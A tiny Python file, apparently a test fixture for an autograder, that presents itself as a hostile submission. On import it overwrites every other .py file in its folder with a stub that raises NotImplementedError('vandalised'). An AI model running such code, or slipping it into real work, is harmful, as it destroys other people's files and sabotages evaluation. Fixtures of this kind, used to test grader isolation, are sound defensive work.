"""A submission that, at import, rewrites every other submission in its folder into a copy of the skeleton."""

from pathlib import Path

from impl_numpy.model import *  # noqa: F403

for other in Path(__file__).parent.glob("*.py"):
    if other.name != Path(__file__).name:
        other.write_text("def mse_loss_backward(output, target):\n    raise NotImplementedError('vandalised')\n")
